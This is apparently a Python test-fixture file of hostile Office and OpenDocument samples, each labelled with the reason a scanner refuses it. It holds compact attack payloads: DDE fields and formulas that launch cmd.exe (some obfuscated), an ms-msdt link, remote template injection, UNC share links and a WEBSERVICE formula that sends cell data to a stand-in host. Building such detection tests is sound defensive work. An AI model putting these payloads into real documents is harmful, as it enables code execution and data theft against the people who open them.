"""Hostile OOXML and ODF files with the code of the reason each is refused for."""

from functools import partial

from tests.make_documents import (
    MICROSOFT_RELATIONSHIP,
    OLE_MAGIC,
    SHEET,
    SLIDES,
    WORD,
    archive,
    odf_part,
    office,
    open_document,
    relationship,
    sheet,
    word,
)

_microsoft = partial(relationship, base=MICROSOFT_RELATIONSHIP)
_external = partial(relationship, external=True)


def field(*pieces: str) -> str:
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    return f'<w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}<w:r><w:fldChar/></w:r>'


def _default(extension: str, content_type: str) -> str:
    return f'<Default Extension="{extension}" ContentType="application/{content_type}"/>'


_VBA = OLE_MAGIC + b"\0" * 600 + "_VBA_PROJECT".encode("utf-16-le")
_dde = f'<w:document xmlns:w="w">{field("DDE cmd")}</w:document>'
_MACRO_WORD = "application/vnd.ms-word.document.macroEnabled.main+xml"
_MACRO_SHEET = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
PROGRAM = b"MZ\x90\0" + b"\0" * 60 + b"This program cannot be run in DOS mode" + b"\0" * 900

OFFICE = {
    "DOCM under another name": (office(_MACRO_WORD), "macros"),
    "XLSM under another name": (office(_MACRO_SHEET, part="xl/workbook.xml"), "macros"),
    "macro by its type": (office(types=_default("dat", "vnd.ms-office.vbaProject")), "macros"),
    "macro by its relationship": (
        office(relationships=_microsoft("vbaProject", "media/image1.png")),
        "macros",
    ),
    "macro by its bytes": (office(**{"word/media/image1.png": _VBA}), "macros"),
    "macro by its name": (office(**{"word/VBAPROJECT.BIN": b"x"}), "macros"),
    "ribbon that calls a macro": (
        office(relationships=_microsoft("ui/extensibility", "customUI/customUI.xml")),
        "macros",
    ),
    "button of a slide that runs a macro": (
        word('<a:hlinkClick xmlns:a="a" action="ppaction://macro?name=M"/>'),
        "macros",
    ),
    "button of a slide that starts a program": (
        word('<a:hlinkClick xmlns:a="a" action="ppaction://program"/>'),
        "launch",
    ),
    "macro sheet by its type": (
        office(
            SHEET,
            types='<Override PartName="/xl/a.xml" ContentType="application/vnd.ms-excel.'
            'macrosheet+xml"/>',
        ),
        "macro_sheet",
    ),
    "macro sheet by its relationship": (
        office(SHEET, relationships=_microsoft("xlMacrosheet", "worksheets/sheet2.xml")),
        "macro_sheet",
    ),
    "macro sheet of another language": (
        office(SHEET, relationships=_microsoft("xlIntlMacrosheet", "worksheets/sheet2.xml")),
        "macro_sheet",
    ),
    "template from the web": (
        office(
            **{
                "word/_rels/settings.xml.rels": "<Relationships>"
                f"{_external('attachedTemplate', 'https://a.example/x.dotm')}</Relationships>"
            }
        ),
        "remote_template",
    ),
    "template from a share of the network": (
        office(relationships=_external("attachedTemplate", r"file:///\\10.0.0.1\x.dotm")),
        "remote_template",
    ),
    "object from the web": (
        office(relationships=_external("oleObject", "mhtml:http://a.example/x!x-usc:")),
        "outside_parts",
    ),
    "frame from the web": (
        office(relationships=_external("frame", "http://a.example/")),
        "outside_parts",
    ),
    "picture from the web": (
        office(relationships=_external("image", "http://a.example/1.png")),
        "outside_parts",
    ),
    "picture from a share, without saying so": (
        office(relationships=relationship("image", r"\\10.0.0.1\1.png")),
        "outside_parts",
    ),
    "part of a document from elsewhere": (
        office(relationships=_external("subDocument", "file:///C:/a.docx")),
        "outside_parts",
    ),
    "field that loads a picture": (
        word(field('INCLUDEPICTURE "http://a.example/1.png" \\d')),
        "outside_parts",
    ),
    "link that runs a command": (
        office(relationships=_external("hyperlink", "ms-msdt:/id PCWDiagnostic")),
        "bad_link",
    ),
    "link to the network's machine": (
        office(relationships=_external("hyperlink", r"\\10.0.0.1\share")),
        "bad_link",
    ),
    "sheet with numbers from another file": (
        office(SHEET, relationships=_external("externalLinkPath", "file:///D:/a.xlsx")),
        "outside_data",
    ),
    "sheet that asks a server": (
        office(SHEET, relationships=relationship("connections", "connections.xml")),
        "outside_data",
    ),
    "formula that asks a server": (
        sheet('<c><f>_xlfn.WEBSERVICE("http://a.example/"&amp;A1)</f></c>'),
        "outside_data",
    ),
    "DDE field": (word(field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe")), "dde"),
    "DDE field in pieces": (word(field("DD", "EAU", 'TO cmd "/c calc"')), "dde"),
    "DDE field in numbers": (word(field("QUOTE 68 68 69 65 85 84 79")), "dde"),
    "DDE field with entities": (word(field("&#68;&#x44;E cmd")), "dde"),
    "DDE field in one element": (word('<w:fldSimple w:instr=" dde cmd calc"/>'), "dde"),
    "DDE field in a part with another name": (
        office(WORD, part="word/document.png", body=_dde),
        "dde",
    ),
    "DDE field in UTF-16": (office(WORD, part="word/a", body=_dde.encode("utf-16")), "dde"),
    "DDE field in the header": (
        office(**{"word/header1.xml": f'<w:hdr xmlns:w="w">{field("DDE cmd")}</w:hdr>'}),
        "dde",
    ),
    "DDE formula": (sheet("<c><f>cmd|'/c calc'!A0</f></c>"), "dde"),
    "DDE formula with entities": (sheet("<c><f>cmd&#124;'/c calc'!A0</f></c>"), "dde"),
    "DDE link of a sheet": (
        sheet(
            "",
            **{
                "xl/externalLinks/externalLink1.xml": "<externalLink>"
                '<ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
            },
        ),
        "dde",
    ),
    "OLE object": (office(relationships=relationship("oleObject", "embeddings/a.bin")), "ole"),
    "OLE object by its bytes": (
        office(**{"word/embeddings/a.bin": OLE_MAGIC + b"\0" * 2000}),
        "ole",
    ),
    "ActiveX by its relationship": (
        office(relationships=relationship("control", "activeX/activeX1.xml")),
        "activex",
    ),
    "ActiveX by its name": (office(**{"word/activeX/activeX1.xml": "<x/>"}), "activex"),
    "macro sheet by its name": (office(SHEET, **{"xl/macrosheets/a.xml": "<x/>"}), "macro_sheet"),
    "link to a program of the reader's disk": (
        office(relationships=_external("hyperlink", "file:///C:/Windows/System32/calc.exe")),
        "bad_link",
    ),
    "ActiveX by its type": (office(types=_default("bin", "vnd.ms-office.activeX")), "activex"),
    "program with another name": (office(**{"word/media/image1.png": PROGRAM}), "program"),
    "program by its name": (office(**{"word/embeddings/a.EXE": b"x"}), "program"),
    "shortcut": (office(**{"word/a.bin": b"L\0\0\0\x01\x14\x02\0" + b"\0" * 60}), "program"),
    "web page as a part": (
        office(relationships=relationship("aFChunk", "chunk.dat")),
        "embedded",
    ),
    "RTF in a document": (office(**{"word/a.bin": b"{\\rtf1 x}"}), "embedded"),
    "zip in a document": (office(**{"word/a.bin": archive({"a.js": "x"})}), "embedded"),
    "macros in an embedded workbook": (
        office(**{"word/embeddings/a.xlsx": office(_MACRO_SHEET, part="xl/workbook.xml")}),
        "macros",
    ),
    "documents in documents in documents": (
        office(**{"a.docx": office(**{"a.docx": office(**{"a.docx": office()})})}),
        "bomb",
    ),
    "add-in": (
        office(relationships=relationship("webextensiontaskpanes", "webextensions/taskpanes.xml")),
        "add_in",
    ),
    "PPTM under another name": (
        office("application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml"),
        "macros",
    ),
    "slides, which are not taken": (office(SLIDES), "not_taken"),
}


OPEN_DOCUMENTS = {
    "macros of LibreOffice": (open_document(**{"Basic/Standard/Module1.xml": "<x/>"}), "macros"),
    "macros in Python": (open_document(**{"Scripts/python/a.py": "import os"}), "macros"),
    "macros in another language": (open_document(**{"Scripts/beanshell/a.xml": "<x/>"}), "macros"),
    "dialogue of macros": (open_document(**{"Dialogs/Standard/a.xml": "<x/>"}), "macros"),
    "listener of an event": (
        open_document(
            before="<office:scripts><office:event-listeners><script:event-listener "
            'script:event-name="dom:load" xlink:href="vnd.sun.star.script:a"/>'
            "</office:event-listeners></office:scripts>"
        ),
        "macros",
    ),
    "script of an open document": (
        open_document(before='<office:script script:language="JavaScript">x</office:script>'),
        "script",
    ),
    "listener in the settings": (
        open_document(
            **{"settings.xml": odf_part("settings", "<script:event-listener/>")},
        ),
        "macros",
    ),
    "slide that starts a program": (
        open_document("odp", '<presentation:event-listener presentation:action="execute"/>'),
        "launch",
    ),
    "address of a macro": (
        open_document(
            body='<text:a xlink:href="vnd.sun.star.script:a.b?language=Basic">x</text:a>'
        ),
        "bad_link",
    ),
    "picture of an open document from the web": (
        open_document(body='<draw:image xlink:href="http://a.example/1.png"/>'),
        "outside_parts",
    ),
    "section from another file": (
        open_document(body='<text:section-source xlink:href="../a.odt"/>'),
        "outside_parts",
    ),
    "frame with another page": (
        open_document(body='<draw:floating-frame xlink:href="a.html"/>'),
        "outside_parts",
    ),
    "OLE object of an open document": (
        open_document(body='<draw:object-ole xlink:href="./Object 1"/>'),
        "ole",
    ),
    "OLE object by its bytes in an open document": (
        open_document(**{"Object 1": OLE_MAGIC + b"\0" * 900}),
        "ole",
    ),
    "applet": (open_document(body='<draw:applet xlink:href="a"/>'), "program"),
    "plug-in": (
        open_document(body='<draw:plugin draw:mime-type="application/x-shockwave-flash"/>'),
        "program",
    ),
    "DDE of a sheet": (open_document("ods", "<table:dde-link/>"), "dde"),
    "DDE of a text": (
        open_document(body="<text:dde-connection-decl office:dde-application='cmd'/>"),
        "dde",
    ),
    "DDE formula of an open document": (
        open_document("ods", '<table:table-cell table:formula="of:=DDE(&quot;cmd&quot;)"/>'),
        "dde",
    ),
    "table from another file": (
        open_document("ods", '<table:table-source xlink:href="a.ods"/>'),
        "outside_data",
    ),
    "form of an open document that is sent": (
        open_document(body='<form:form xlink:href="http://a.example/"/>'),
        "sends_data",
    ),
    "template of an open document from the web": (
        open_document(
            **{"meta.xml": odf_part("meta", '<meta:template xlink:href="http://a.example/a"/>')}
        ),
        "remote_template",
    ),
    "open document with a password": (
        open_document(manifest="<manifest:encryption-data/>", **{"content.xml": b"\x9f\x01\xfe"}),
        "password",
    ),
    "open document packed with a password": (
        open_document(**{"encrypted-package": b"\0" * 99}),
        "password",
    ),
    "program in an open document": (open_document(**{"Pictures/1.png": PROGRAM}), "program"),
}
